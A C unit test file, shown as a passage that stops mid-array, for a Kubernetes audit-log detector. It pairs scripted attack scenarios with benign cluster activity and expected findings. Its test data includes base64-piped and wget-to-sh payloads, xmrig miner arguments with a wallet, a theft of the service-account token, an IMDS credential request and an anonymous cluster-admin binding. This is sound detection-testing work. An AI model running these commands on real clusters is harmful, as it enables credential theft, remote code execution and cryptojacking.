#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

#include "detect/record_detector.h"
#include "model/finding_json.h"

extern const struct record_detector cluster_detector;

/* Monero's general fund: an address with a right checksum. */
#define WALLET                                                                                     \
	"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoog" \
	"D"                                                                                        \
	"avup3H"

enum { HOUR = 3600, DAY = 86400, STEPS_MAX = 24, ACTS_MAX = 512, NODES = 512, TOLD_MAX = 32 };

/* One act, or `times` of them with %d in the name counted up, `every` seconds. JSON with '. */
struct step {
	int at;
	const char *user, *from, *verb, *what; /* "pods", "pods/exec" */
	const char *namespace, *name, *request, *response, *uri, *why, *as;
	int times, every;
	enum record_outcome outcome; /* UNKNOWN: done */
	const char *cluster, *agent;
};

struct story {
	const char *name;
	struct step steps[STEPS_MAX];
	const char *told; /* "verdict doing" sorted, with "; " between */
};

/* -- acts -- */

struct act_text {
	char name[128], request[4096], response[4096], whole[1024], id[64];
	struct json_node nodes[3][NODES];
	struct json docs[3];
	struct record record;
	struct str group;
};

static struct json_value read_into(struct act_text *t, int which, char *text, const char *json,
				   size_t cap)
{
	if (!json)
		return (struct json_value){NULL, UINT32_MAX};
	snprintf(text, cap, "%s", json);
	for (char *c = text; *c; c++)
		*c = *c == '\'' ? '"' : *c;
	t->docs[which] = (struct json){.nodes = t->nodes[which], .cap = NODES};
	assert_true(json_read(&t->docs[which], str_from(text)) > 0);
	return json_root(&t->docs[which]);
}

static void set_identity(const struct step *step, struct act_text *t)
{
	struct record_identity *who = &t->record.act.identity;

	who->name = str_from(step->user);
	who->impersonated = str_from(step->as);
	if (strcmp(step->user, "system:anonymous") == 0) {
		who->kind = IDENTITY_ANONYMOUS;
		t->group = STR("system:unauthenticated");
		who->groups = &t->group;
		who->group_count = 1;
	}
}

static void make(const struct step *step, int number, int serial, struct act_text *t)
{
	struct record_act *act = &t->record.act;
	char why[900];

	t->record =
		(struct record){.kind = RECORD_KUBE_AUDIT,
				.time = instant_at(1000 * DAY + step->at + number * step->every, 0),
				.source = STR("audit.log"),
				.offset = (uint64_t)serial * 1000};
	snprintf(t->id, sizeof(t->id), "id-%d/ResponseComplete", serial);
	t->record.id = str_from(t->id);
	set_identity(step, t);
	act->provider = PROVIDER_KUBE;
	act->account = str_from(step->cluster ? step->cluster : "c1");
	act->action = str_from(step->verb);
	(void)str_cut(str_from(step->what), '/', &act->resource, &act->subresource);
	act->namespace = str_from(step->namespace);
	if (step->name)
		snprintf(t->name, sizeof(t->name), step->name, number);
	act->name = step->name ? str_from(t->name) : (struct str){0};
	act->uri = str_from(step->uri);
	act->source = str_from(step->from);
	act->user_agent = str_from(step->agent);
	act->has_address = address_parse(act->source, &act->address);
	act->outcome = step->outcome == OUTCOME_UNKNOWN ? OUTCOME_DONE : step->outcome;
	act->decision = act->outcome == OUTCOME_DENIED ? STR("forbid") : STR("allow");
	act->request = read_into(t, 0, t->request, step->request, sizeof(t->request));
	act->response = read_into(t, 1, t->response, step->response, sizeof(t->response));
	snprintf(why, sizeof(why), "{'annotations':{'authorization.k8s.io/reason':'%s'}}",
		 step->why ? step->why : "");
	t->record.whole = read_into(t, 2, t->whole, why, sizeof(t->whole));
}

/* -- findings -- */

struct told {
	struct record_teller teller;
	char *lines[TOLD_MAX];
	char brief[TOLD_MAX][128];
	int count;
};

static void take(struct record_teller *teller, struct finding *finding)
{
	struct told *told = (struct told *)teller;
	struct buf line = {0};
	struct str doing = facts_text(&finding->subject.keys, STR("doing"));

	assert_true(told->count < TOLD_MAX);
	assert_true(finding->reason_count > 0 && finding->title.len > 0);
	assert_true(finding->evidence_count > 0 && finding->technique_count > 0);
	for (size_t i = 1; i < finding->evidence_count; i++)
		assert_true(finding->evidence[i - 1].time.ns <= finding->evidence[i].time.ns);
	assert_true(finding->first_seen.ns <= finding->last_seen.ns);
	finding_to_json(finding, &line);
	buf_add_byte(&line, '\0');
	assert_false(line.failed);
	snprintf(told->brief[told->count], 128, "%s %.*s", verdict_name(finding->verdict),
		 STR_ARG(doing));
	told->lines[told->count++] = line.at;
}

static int compare_texts(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* All lines, sorted, in one. */
static struct buf report(void *state, struct told *told)
{
	struct buf all = {0};
	struct arena scratch;

	*told = (struct told){.teller = {take}};
	assert_int_equal(arena_init(&scratch, 256 * 1024), 0);
	cluster_detector.report(state, instant_at(2000 * DAY, 0), &scratch, &told->teller);
	arena_fini(&scratch);
	qsort(told->lines, (size_t)told->count, sizeof(told->lines[0]), compare_texts);
	for (int i = 0; i < told->count; i++) {
		buf_add_text(&all, told->lines[i]);
		buf_add_byte(&all, '\n');
		free(told->lines[i]);
	}
	return all;
}

static struct str brief(struct told *told, char *out, size_t cap)
{
	char *at[TOLD_MAX];
	size_t len = 0;

	for (int i = 0; i < told->count; i++)
		at[i] = told->brief[i];
	qsort(at, (size_t)told->count, sizeof(at[0]), compare_texts);
	out[0] = '\0';
	for (int i = 0; i < told->count; i++)
		len += (size_t)snprintf(out + len, cap - len, "%s%s", i ? "; " : "", at[i]);
	return str_from(out);
}

/* -- running a story -- */

enum way { IN_ORDER, BACKWARDS, SHUFFLED, TWICE, WAYS };

struct list {
	const struct step *step[ACTS_MAX];
	int number[ACTS_MAX], serial[ACTS_MAX];
	int count;
};

static void unfold(const struct story *story, struct list *list)
{
	list->count = 0;
	for (const struct step *s = story->steps; s->user; s++)
		for (int i = 0; i < (s->times ? s->times : 1); i++) {
			assert_true(list->count < ACTS_MAX);
			list->step[list->count] = s;
			list->number[list->count] = i;
			list->serial[list->count] = list->count;
			list->count++;
		}
}

static void swap(struct list *list, int a, int b)
{
	const struct step *step = list->step[a];
	int number = list->number[a], serial = list->serial[a];

	list->step[a] = list->step[b];
	list->number[a] = list->number[b];
	list->serial[a] = list->serial[b];
	list->step[b] = step;
	list->number[b] = number;
	list->serial[b] = serial;
}

static void arrange(struct list *list, enum way way, uint32_t seed)
{
	for (int i = 0; way == BACKWARDS && i < list->count / 2; i++)
		swap(list, i, list->count - 1 - i);
	for (int i = list->count - 1; way >= SHUFFLED && i > 0; i--) {
		seed = seed * 1664525 + 1013904223;
		swap(list, i, (int)((seed >> 8) % (uint32_t)(i + 1)));
	}
}

static void observe_all(void *state, const struct list *list)
{
	static struct act_text text;

	for (int i = 0; i < list->count; i++) {
		make(list->step[i], list->number[i], list->serial[i], &text);
		cluster_detector.observe(state, &text.record);
	}
}

static struct buf run(const struct story *story, enum way way, uint32_t seed, struct told *told)
{
	const struct record_settings settings = {.seed = 7 + seed, .capacity = 4096};
	static struct list list;
	void *state = NULL;

	unfold(story, &list);
	arrange(&list, way, seed);
	assert_int_equal(cluster_detector.create(&settings, &state), 0);
	observe_all(state, &list);
	if (way == TWICE)
		observe_all(state, &list);
	struct buf all = report(state, told);
	cluster_detector.destroy(state);
	return all;
}

static void run_stories(const struct story *stories, size_t count)
{
	static struct told told;
	char text[1024];

	for (size_t i = 0; i < count; i++) {
		CLEANUP(buf_fini) struct buf first = run(&stories[i], IN_ORDER, 0, &told);
		struct str got = brief(&told, text, sizeof(text));
		if (!str_equal(got, str_from(stories[i].told)))
			fail_msg("%s: told '%s' instead of '%s'\n%.*s", stories[i].name, text,
				 stories[i].told, STR_ARG(buf_view(&first)));
		for (uint32_t seed = 0; seed < 6; seed++) {
			enum way way = seed == 0 ? BACKWARDS : seed % 2 ? SHUFFLED : TWICE;
			CLEANUP(buf_fini) struct buf again = run(&stories[i], way, seed, &told);
			if (!str_equal(buf_view(&first), buf_view(&again)))
				fail_msg("%s: another order, another finding:\n%.*s\n%.*s",
					 stories[i].name, STR_ARG(buf_view(&first)),
					 STR_ARG(buf_view(&again)));
		}
	}
}

/* -- specs -- */

#define POD(spec)	     "{'kind':'Pod','spec':{" spec "}}"
#define TEMPLATE(kind, spec) "{'kind':'" kind "','spec':{'template':{'spec':{" spec "}}}}"
#define CRON(spec) \
	"{'kind':'CronJob','spec':{'jobTemplate':{'spec':{'template':{'spec':{" spec "}}}}}}"
#define NOTHING_SAID "'containers':[{'image':'registry.example.net/web:1'}]"
#define HIDDEN                                                                                   \
	"'tolerations':[{'operator':'Exists'}],'hostPID':true,'containers':[{'image':"           \
	"'registry.example.net/node-agent:2','securityContext':{'privileged':true},'resources':" \
	"{'limits':{'cpu':'500m'}},'command':['/bin/sh','-c','echo "                             \
	"L3Vzci9sb2NhbC9iaW4vYWdlbnQgLS1"                                                        \
	"1cHN0cmVhbSBlZGdlLmV4YW1wbGUtY2RuLm5ldDo4NDQz | base64 -d | sh']}]"
#define AGENT(image)                                                                              \
	"'tolerations':[{'operator':'Exists'}],'hostNetwork':true,'hostPID':true,'"               \
	"priorityClassName'"                                                                      \
	":'system-node-critical','volumes':[{'hostPath':{'path':'/proc'}},{'hostPath':{'path':'/" \
	"'}}"                                                                                     \
	"],'initContainers':[{'image':'" image                                                    \
	"','command':['sh','-c','mount | grep bpf || mount bpf"                                   \
	" /sys/fs/bpf -t bpf']}],'containers':[{'image':'" image                                  \
	"','securityContext':{'privileged'"                                                       \
	":true},'resources':{'limits':{'cpu':'200m'}},'args':['--config','/etc/agent.yaml']}]"
#define GRANT(to)                                                                              \
	"{'roleRef':{'kind':'ClusterRole','name':'cluster-admin'},'subjects':[{'kind':'User'," \
	"'name':'" to "'}]}"

#define NOBODY	"system:anonymous"
#define CONSOLE "system:serviceaccount:kubernetes-dashboard:kubernetes-dashboard"
#define WEB	"system:serviceaccount:shop:web"
#define ALL_OF(who)                                                                              \
	"RBAC: allowed by ClusterRoleBinding \\\"open\\\" of ClusterRole \\\"cluster-admin\\\" " \
	"to " who

static const struct story attacks[] = {
	{"anybody looks around, reads secrets, mines",
	 {{0, NOBODY, "203.0.113.5", "get", "", .uri = "/version"},
	  {1, NOBODY, "203.0.113.5", "list", "pods", .uri = "/api/v1/pods",
	   .why = ALL_OF("User \\\"system:anonymous\\\"")},
	  {2, NOBODY, "203.0.113.5", "list", "secrets"},
	  {3, NOBODY, "203.0.113.6", "get", "secrets", "billing", "aws"},
	  {4, NOBODY, "203.0.113.5", "create", "pods", "default", "xmr-0",
	   POD("'containers':[{'image':'docker.io/x/xmrig:6','args':['-o','stratum+tcp://"
	       "pool.example"
	       ":3333','-u','48EXAMPLE','--donate-level=1']}]")}},
	 "access secrets; exposure open to anybody; miner mining workload"},
	{"anybody, only health, version, discovery and what new nodes read",
	 {{0, NOBODY, "203.0.113.5", "get", "", .uri = "/healthz", .times = 300, .every = 3},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/livez?verbose", .times = 9},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/version?timeout=32s"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "readyz"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/.well-known/openid-configuration"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/apis?timeout=32s"},
	  {0, NOBODY, "203.0.113.5", "get", "configmaps", "kube-public", "cluster-info"},
	  {0, NOBODY, "203.0.113.5", "list", "componentstatuses"},
	  {0, NOBODY, "203.0.113.5", "list", "pods", .outcome = OUTCOME_DENIED, .times = 50}},
	 ""},
	{"the founding case: a console without a password",
	 {{0, CONSOLE, "10.0.0.9", "list", "pods", "shop"},
	  {1, CONSOLE, "10.0.0.9", "get", "secrets", "shop", "aws-telemetry",
	   .response =
		   "{'data':{'id':'QUtJQUlPU0ZPRE5ON0VYQU1QTEU=','key':'c2VjcmV0LWNhbmFyeQ=='}}"},
	  {60, CONSOLE, "10.0.0.9", "create", "daemonsets", "kube-system", "node-agent",
	   TEMPLATE("DaemonSet", HIDDEN)}},
	 "access secrets; exposure open console; signal keys in answers; suspect hidden workload"},
	{"the key is told where the pod is made, and who reads the pod has it",
	 {{0, "system:serviceaccount:kube-system:replicaset-controller", "10.0.0.2", "create",
	   "pods", "shop", "web-1",
	   POD("'containers':[{'image':'w','env':[{'name':'K','value':'AKIAIOSFODNN7EXAMPLE'}]}]")},
	  {60, CONSOLE, "203.0.113.9", "get", "pods", "shop", "web-1"},
	  {61, CONSOLE, "203.0.113.9", "get", "secrets", "shop", "a"}},
	 "access secrets; exposure open console"},
	{"no name at all: a stranger, and a shell nobody can read, on every node",
	 {{0, "kubernetes-admin", "198.51.100.7", "create", "daemonsets", "kube-system",
	   "node-agent", TEMPLATE("DaemonSet", HIDDEN)}},
	 "suspect hidden workload"},
	{"its pods, which a controller makes, are told with it",
	 {{0, "kubernetes-admin", "198.51.100.7", "create", "daemonsets", "kube-system",
	   "node-agent", TEMPLATE("DaemonSet", HIDDEN)},
	  {1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "node-agent-%d", POD(HIDDEN), .times = 20}},
	 "suspect hidden workload"},
	{"who started it was not recorded: its pods are told, not the controller",
	 {{1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "node-agent-%d",
	   "{'metadata':{'ownerReferences':[{'controller':true,'kind':'DaemonSet','name':'node-"
	   "agent'}"
	   "]},'spec':{" HIDDEN "}}",
	   .times = 20},
	  {1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "other-%d", POD(AGENT("quay.io/cilium/cilium:v1.16")),
	   .times = 20},
	  {2, "system:kube-scheduler", "10.0.0.2", "create", "pods/binding", "kube-system",
	   "node-agent-0", "{'target':{'name':'n1'}}"},
	  {3, "system:node:n2", "10.0.0.2", "patch", "pods/status", "kube-system", "node-agent-%d",
	   "{'status':{'podIP':'10.7.0.9','podIPs':[{'ip':'10.7.0.9'},{'ip':'2001:db8::9'}]}}",
	   .times = 2}},
	 "suspect hidden workload"},
	{"a wallet and a login, under an innocent name, over a split list of arguments",
	 {{0, "ci", "198.51.100.7", "create", "deployments", "shop", "web",
	   TEMPLATE("Deployment",
		    "'containers':[{'image':'nginx','command':['/worker'],'args':['-o',"
		    "'203.0.113.9:443','-u','" WALLET "']}]")}},
	 "miner mining workload"},
	{"a wallet and a pool in variables",
	 {{0, "ci", "198.51.100.7", "patch", "statefulsets", "shop", "db",
	   TEMPLATE("StatefulSet",
		    "'containers':[{'image':'db','env':[{'name':'A','value':'stratum+"
		    "ssl://p.example:443'},{'name':'B','value':'" WALLET "'}]}]")}},
	 "miner mining workload"},
	{"a pool, and keys of a cloud beside it",
	 {{0, "ci", "198.51.100.7", "create", "jobs", "shop", "k",
	   TEMPLATE("Job",
		    "'containers':[{'image':'k','args':['stratum+tcp://p.example:1','--nicehash']"
		    ",'env':[{'name':'ID','value':'AKIAIOSFODNN7EXAMPLE'},{'name':'KEY','value':"
		    "'canary'}]}]")}},
	 "miner mining workload"},
	{"settings of a miner in a config map",
	 {{0, "ci", "198.51.100.7", "create", "configmaps", "shop", "settings",
	   "{'data':{'c.json':'{\\\"pools\\\":[{\\\"url\\\":\\\"p.example:443\\\",\\\"user\\\":"
	   "\\\"" WALLET "\\\"}],\\\"donate-level\\\":0}'}}"}},
	 "miner settings of a miner"},
	{"a stolen pod's token: probes, sweeps, then runs something encoded",
	 {{0, WEB, "203.0.113.8", "list", "secrets", "kube-system", .outcome = OUTCOME_DENIED},
	  {1, WEB, "203.0.113.8", "list", "nodes", .outcome = OUTCOME_DENIED},
	  {2, WEB, "203.0.113.8", "create", "clusterrolebindings", .outcome = OUTCOME_DENIED},
	  {3, WEB, "203.0.113.8", "list", "configmaps", .outcome = OUTCOME_DENIED},
	  {10, WEB, "203.0.113.8", "get", "secrets", "shop", "s-%d", .times = 7, .every = 4},
	  {60, WEB, "203.0.113.8", "create", "deployments", "shop", "cache",
	   TEMPLATE("Deployment",
		    "'containers':[{'image':'alpine','command':['sh','-c','echo aGVsbG8="
		    " | base64 -d | sh']}]")}},
	 "access probing; access secrets; suspect hidden workload"},
	{"a sweep of an operator's token from elsewhere than the operator",
	 {{0, WEB, "10.0.0.5", "watch", "secrets", .times = 9, .every = DAY},
	  {0, WEB, "10.0.0.5", "watch", "configmaps", .times = 9, .every = DAY},
	  {0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 40, .every = HOUR},
	  {9 * DAY, WEB, "203.0.113.8", "get", "secrets", "shop", "s-%d", .times = 9}},
	 "access secrets"},
	{"far more at once than it ever read, over days",
	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "own", .times = 200, .every = HOUR},
	  {9 * DAY, WEB, "10.0.0.5", "get", "secrets", "kube-system", "s-%d", .times = 60}},
	 "access secrets"},
	{"a slow sweep: one secret in ten minutes",
	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 30, .every = 660}},
	 "access secrets"},
	{"a sweep over the edge of two windows",
	 {{595, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 6, .every = 2}},
	 "access secrets"},
	{"tokens made for other accounts",
	 {{0, WEB, "10.0.0.5", "create", "serviceaccounts/token", "kube-system", "c-%d",
	   .times = 6}},
	 "access secrets"},
	{"a pod's account with a person's tool: the secrets of all namespaces",
	 {{0, WEB, "10.0.0.5", "list", "secrets", .agent = "kubectl/v1.30"}},
	 "access secrets"},
	{"a pod's account from outside: the secrets of all namespaces",
	 {{0, WEB, "203.0.113.8", "list", "secrets", .agent = "web/1"}},
	 "access secrets"},
	{"a command that is only in the body: it steals the pod's token",
	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   "{'command':['cat','/var/run/secrets/kubernetes.io/serviceaccount/token']}"}},
	 "signal command in a pod"},
	{"a command that asks the metadata service for credentials",
	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/"
		  "exec?command=sh&command=-c&command=curl+http%3A"
		  "%2F%2F2852039166%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&stdout="
		  "true"}},
	 "access metadata service"},
	{"a command that mines",
	 {{0, "dev", "198.51.100.7", "get", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=%2Ftmp%2Fx&command=-o&command="
		  "stratum%2Btcp%3A%2F%2Fp.example%3A1&command=--donate-level&command=1"}},
	 "miner mining command"},
	{"a binding for anybody, before anybody uses it",
	 {{0, "admin", "198.51.100.7", "create", "clusterrolebindings", NULL, "open",
	   GRANT("system:unauthenticated")}},
	 "exposure open to anybody; signal rights"},
	{"a console served to the internet",
	 {{0, "admin", "198.51.100.7", "create", "services", "kubernetes-dashboard", "lb",
	   "{'spec':{'type':'LoadBalancer','selector':{'k8s-app':'kubernetes-dashboard'}}}"}},
	 "exposure console to the outside"},
	{"traces: events deleted",
	 {{0, "dev", "198.51.100.7", "deletecollection", "events", "shop"}},
	 "signal deleted events"},
	{"a webhook, a certificate, a node's own interface",
	 {{0, "dev", "198.51.100.7", "create", "mutatingwebhookconfigurations", NULL, "w"},
	  {1, "dev", "198.51.100.7", "update", "certificatesigningrequests/approval", NULL, "c",
	   "{'spec':{'signerName':'kubernetes.io/kube-apiserver-client'}}"},
	  {2, "dev", "198.51.100.7", "create", "nodes/proxy", NULL, "n1",
	   .uri = "/api/v1/nodes/n1/proxy/run/shop/web-1/web?cmd=id"}},
	 "signal certificates; signal node proxy; signal watchers"},
	{"every night it downloads and runs",
	 {{0, "dev", "198.51.100.7", "create", "cronjobs", "shop", "tidy",
	   CRON("'containers':[{'image':'alpine','command':['sh','-c','wget -qO- "
		"http://203.0.113.9/a"
		"|sh']}]")}},
	 "signal workload"},
	{"a component's name from the open internet is none",
	 {{0, "system:kube-controller-manager", "203.0.113.9", "get", "secrets", "shop", "s-%d",
	   .times = 12}},
	 "access secrets"},
	{"two clusters are two",
	 {{0, NOBODY, "203.0.113.5", "list", "pods", .cluster = "c1"},
	  {0, NOBODY, "203.0.113.5", "list", "pods", .cluster = "c2"}},
	 "exposure open to anybody; exposure open to anybody"},
};

#define SYSTEM(account) "system:serviceaccount:" account
#define ADMIN		"kubernetes-admin"

/* What every cluster has: silent, or a signal. */
static const struct story innocents[] = {
	{"kubeadm makes a cluster",
	 {{0, ADMIN, "192.0.2.4", "create", "configmaps", "kube-public", "cluster-info"},
	  {0, ADMIN, "192.0.2.4", "create", "rolebindings", "kube-public",
	   "kubeadm:bootstrap-signer-clusterinfo",
	   "{'roleRef':{'name':'kubeadm:bootstrap-signer-clusterinfo'},'subjects':[{'kind':'User',"
	   "'name':'system:anonymous'}]}"},
	  {1, ADMIN, "192.0.2.4", "create", "daemonsets", "kube-system", "kube-proxy",
	   TEMPLATE("DaemonSet", AGENT("registry.k8s.io/kube-proxy:v1.32"))},
	  {2, ADMIN, "192.0.2.4", "create", "deployments", "kube-system", "coredns",
	   TEMPLATE("Deployment", NOTHING_SAID)},
	  {3, "system:apiserver", "127.0.0.1", "create", "clusterrolebindings", NULL,
	   "system:public-info-viewer", GRANT("system:unauthenticated")}},
	 "signal workload"},
	{"a network plugin is put into kube-system by an administrator",
	 {{0, ADMIN, "192.0.2.4", "create", "clusterrolebindings", NULL, "cilium",
	   "{'roleRef':{'name':'cilium'},'subjects':[{'kind':'ServiceAccount','name':'cilium'}]}"},
	  {1, ADMIN, "192.0.2.4", "create", "daemonsets", "kube-system", "cilium",
	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/cilium:v1.16"))},
	  {2, "system:serviceaccount:kube-system:daemon-set-controller", "192.0.2.4", "create",
	   "pods", "kube-system", "cilium-%d", POD(AGENT("quay.io/cilium/cilium:v1.16")),
	   .times = 9}},
	 "signal workload"},
	{"node-exporter",
	 {{0, ADMIN, "192.0.2.4", "create", "daemonsets", "monitoring", "node-exporter",
	   TEMPLATE("DaemonSet",
		    "'hostNetwork':true,'hostPID':true,'volumes':[{'hostPath':{'path':'/'}"
		    "}],'containers':[{'image':'quay.io/prometheus/node-exporter:v1.8',"
		    "'args':['--path.rootfs=/host','--web.listen-address=[$(IP)]:9100'],"
		    "'resources':{'limits':{'cpu':'250m'}}}]")}},
	 ""},
	{"falco, by helm, which asks what it may do and keeps its releases in secrets",
	 {{0, "deployer", "198.51.100.4", "create", "selfsubjectaccessreviews", .times = 3},
	  {0, "deployer", "198.51.100.4", "list", "secrets", "falco",
	   .uri = "/api/v1/namespaces/falco/secrets?labelSelector=name%3Dfalco%2Cowner%3Dhelm"},
	  {0, "deployer", "198.51.100.4", "get", "secrets", "falco", "sh.helm.release.v1.falco.v%d",
	   .times = 30},
	  {2, "deployer", "198.51.100.4", "create", "daemonsets", "falco", "falco",
	   TEMPLATE("DaemonSet", AGENT("docker.io/falcosecurity/falco:0.39"))}},
	 ""},
	{"tetragon in kube-system, by flux, which watches what it works with",
	 {{0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "watch", "kustomizations"},
	  {0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "watch", "secrets"},
	  {0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "update", "leases"},
	  {1, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "get", "secrets", "apps",
	   "k-%d", .times = 40},
	  {2, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "patch", "daemonsets",
	   "kube-system", "tetragon",
	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/tetragon:v1.2"))}},
	 "signal workload"},
	{"the same by a pipeline's account in one run, which watches nothing",
	 {{0, SYSTEM("gitlab:runner"), "10.0.0.7", "patch", "daemonsets", "kube-system", "tetragon",
	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/tetragon:v1.2"))}},
	 "signal workload"},
	{"operators that read many secrets: external-secrets, cert-manager, argocd, trivy",
	 {{0, SYSTEM("es:external-secrets"), "10.0.0.4", "watch", "secrets"},
	  {0, SYSTEM("es:external-secrets"), "10.0.0.4", "watch", "externalsecrets"},
	  {0, SYSTEM("es:external-secrets"), "10.0.0.4", "get", "secrets", "ns", "e-%d",
	   .times = 90},
	  {0, SYSTEM("cm:cert-manager"), "10.0.0.5", "update", "leases"},
	  {0, SYSTEM("cm:cert-manager"), "10.0.0.5", "list", "secrets"},
	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "list", "secrets"},
	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "watch", "secrets"},
	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "watch", "pods"},
	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "list", "secrets"},
	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "watch", "secrets"},
	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "watch", "jobs"}},
	 ""},
	{"metrics of secrets, listed once",
	 {{0, SYSTEM("kube-system:kube-state-metrics"), "10.0.0.8", "list", "secrets"}},
	 "signal secrets"},
	{"a backup that reads all secrets every night, and watches nothing",
	 {{0, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d", .times = 12},
	  {DAY, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d", .times = 12},
	  {2 * DAY, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d",
	   .times = 12}},
	 ""},
	{"kubelets read secrets and make tokens for their pods",
	 {{0, "system:node:n1", "10.0.0.2", "get", "secrets", "ns", "e-%d", .times = 60},
	  {0, "system:node:n1", "10.0.0.2", "create", "serviceaccounts/token", "ns", "a-%d",
	   .times = 30}},
	 ""},
	{"a runner of GitHub's in a pod with rights, and jobs that install things",
	 {{0, SYSTEM("arc:controller"), "10.0.0.4", "create", "pods", "arc-runners", "runner-%d",
	   POD("'containers':[{'image':'ghcr.io/actions/actions-runner:2','command':['/opt/runner/"
	       "run"
	       ".sh']},{'image':'docker:dind','securityContext':{'privileged':true}}]"),
	   .times = 12},
	  {9, SYSTEM("ci:builder"), "10.0.0.5", "create", "jobs", "ci", "build-%d",
	   TEMPLATE("Job",
		    "'containers':[{'image':'ubuntu:24.04','command':['bash','-c','curl -fsSL "
		    "https://sh.rustup.rs | sh -s -- -y && cargo build']}]"),
	   .times = 12}},
	 "signal workload"},
	{"people look for faults",
	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true"},
	  {1, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=env"},
	  {2, "dev", "198.51.100.7", "create", "pods/portforward", "shop", "db-1"},
	  {3, "dev", "198.51.100.7", "get", "secrets", "shop", "s-%d", .times = 3},
	  {4, "dev", "198.51.100.7", "list", "nodes", .outcome = OUTCOME_DENIED},
	  {4, "dev", "198.51.100.7", "list", "secrets", .outcome = OUTCOME_DENIED},
	  {4, "dev", "198.51.100.7", "list", "roles", .outcome = OUTCOME_DENIED},
	  {4, "dev", "198.51.100.7", "list", "crds", .outcome = OUTCOME_DENIED},
	  {9, "dev", "198.51.100.7", "create", "deployments", "shop", "web",
	   TEMPLATE("Deployment", NOTHING_SAID)}},
	 ""},
	{"a debug container",
	 {{0, "dev", "198.51.100.7", "patch", "pods/ephemeralcontainers", "shop", "web-1",
	   POD("'ephemeralContainers':[{'image':'busybox','command':['sh']}]")}},
	 "signal debug container"},
	{"an administrator installs helm charts with all rights for one of them",
	 {{0, ADMIN, "192.0.2.4", "create", "clusterrolebindings", NULL, "flux", GRANT("flux")},
	  {1, ADMIN, "192.0.2.4", "create", "deployments", "flux-system", "c-%d",
	   TEMPLATE("Deployment", NOTHING_SAID), .times = 4}},
	 "signal rights"},
	{"the dashboard keeps its keys and shows what is there",
	 {{0, CONSOLE, "10.0.0.9", "get", "secrets", "kubernetes-dashboard",
	   "kubernetes-dashboard-key-holder"},
	  {1, CONSOLE, "10.0.0.9", "update", "secrets", "kubernetes-dashboard",
	   "kubernetes-dashboard-key-holder"},
	  {2, CONSOLE, "10.0.0.9", "get", "configmaps", "kubernetes-dashboard",
	   "kubernetes-dashboard-settings"},
	  {3, CONSOLE, "10.0.0.9", "get", "services/proxy", "kubernetes-dashboard",
	   "dashboard-metrics-scraper"},
	  {4, CONSOLE, "10.0.0.9", "list", "namespaces"}},
	 ""},
	{"prometheus reads metrics through the nodes",
	 {{0, SYSTEM("monitoring:prometheus"), "10.0.0.4", "get", "nodes/proxy", NULL, "n-%d",
	   .uri = "/api/v1/nodes/n1/proxy/metrics/cadvisor", .times = 60}},
	 ""},
	{"a shop that takes donations, a pool operator's exporter",
	 {{0, "dev", "198.51.100.7", "create", "deployments", "shop", "web",
	   TEMPLATE("Deployment",
		    "'containers':[{'image':'shop','env':[{'name':'DONATE','value':'" WALLET
		    "'}]}]")},
	  {1, "dev", "198.51.100.7", "create", "deployments", "shop", "exporter",
	   TEMPLATE("Deployment", "'containers':[{'image':'example/xmrig-exporter:1'}]")}},
	 "signal workload"},
	{"a console for the inside",
	 {{0, "admin", "198.51.100.7", "create", "services", "d", "dashboard",
	   "{'metadata':{'annotations':{'service.beta.kubernetes.io/"
	   "aws-load-balancer-internal':'true'}"
	   "},'spec':{'type':'LoadBalancer','selector':{'app':'dashboard'}}}"},
	  {1, "admin", "198.51.100.7", "create", "services", "shop", "web",
	   "{'spec':{'type':'LoadBalancer','selector':{'app':'web'}}}"}},
	 "signal console to the outside"},
};

/* What README.md says is not seen, tried: whoever makes one of these seen may strike it out there.
 */
static const struct story escapes[] = {
	{"an image whose entry point mines, and nothing else is said, by a pipeline's account",
